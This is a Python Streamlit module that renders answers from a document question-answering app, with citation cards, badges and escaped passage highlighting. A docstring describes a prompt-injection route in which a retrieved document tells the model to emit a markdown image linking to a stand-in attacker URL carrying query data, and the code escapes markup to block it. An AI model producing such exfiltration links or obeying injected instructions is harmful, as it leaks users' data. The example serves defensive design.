"""Rendering an answer: text with [n], mode badge, latency, one source card per citation."""

from __future__ import annotations

import html

import streamlit as st

from app.ui.i18n import t
from core.models import Answer, Citation
from core.settings import Settings
from ingest.kb import shared_kb

_BADGE = {"llm": ("mode_llm", "blue"), "extractive": ("mode_extractive", "green"), "refused": ("mode_refused", "orange")}


def badge(answer: Answer) -> str:
    key, colour = _BADGE["refused" if answer.refused else answer.mode]
    label = t(key) + (f" · {answer.model}" if answer.mode == "llm" and answer.model and not answer.refused else "")
    latency = f"{answer.timings_ms.get('total', 0):.0f} ms"
    cached = f" · {t('cached')}" if answer.flags.get("cached") else ""
    return f":{colour}-badge[{label}] :gray-badge[{latency}{cached}]"


_MARKUP = str.maketrans({c: "\\" + c for c in "\\![]()<>"})


def inert(text: str) -> str:
    """Answer text for st.markdown with images, links, autolinks and HTML disarmed: a document can tell
    the model to write ``![](https://attacker/?q=…)``, which a browser would fetch. Escaping is per
    character, so it is safe on streamed tokens too; ``[1]`` still shows as ``[1]``."""
    return text.translate(_MARKUP)


def highlighted(text: str, start: int, end: int) -> str:
    """HTML with text[start:end] marked; everything escaped (documents are data, never markup)."""
    start, end = max(0, start), min(len(text), end)
    return (
        html.escape(text[:start]) + "<mark>" + html.escape(text[start:end]) + "</mark>" + html.escape(text[end:])
    ).replace("\n", "<br>")


def source_card(citation: Citation, kb_name: str, settings: Settings) -> None:
    name = citation.source.replace("\\", "/").rsplit("/", 1)[-1]
    page = f" · {t('page', page=citation.page)}" if citation.page else ""
    with st.container(border=True):
        st.markdown(f"**[{citation.n}] {html.escape(name)}**{page}")
        st.markdown(f"<div class='zw-quote'>{highlighted(citation.quote, 0, len(citation.quote))}</div>", unsafe_allow_html=True)
        chunk = shared_kb(kb_name, settings).catalog.chunk_by_id(citation.chunk_id)
        if chunk is not None:
            with st.expander(t("whole_chunk")):
                passage = highlighted(chunk.text, citation.start - chunk.start, citation.end - chunk.start)
                st.markdown(f"<div class='zw-passage'>{passage}</div>", unsafe_allow_html=True)  # HTML, not Markdown: "# 标题" stays text


def render_answer(answer: Answer, kb_name: str, settings: Settings, show_text: bool = True) -> None:
    if show_text:
        st.markdown(inert(answer.text))
    st.markdown(badge(answer))
    if answer.flags.get("llm_error"):
        st.warning(t("llm_failed", reason=answer.flags["llm_error"]))
    if answer.flags.get("uncited"):
        st.info(t("uncited"))
    for citation in answer.citations:
        source_card(citation, kb_name, settings)


STYLE = """
<style>
.zw-quote, .zw-passage { font-size: 0.92rem; line-height: 1.6; }
.zw-quote mark, .zw-passage mark { background: #fff3b0; padding: 0 2px; }
</style>
"""
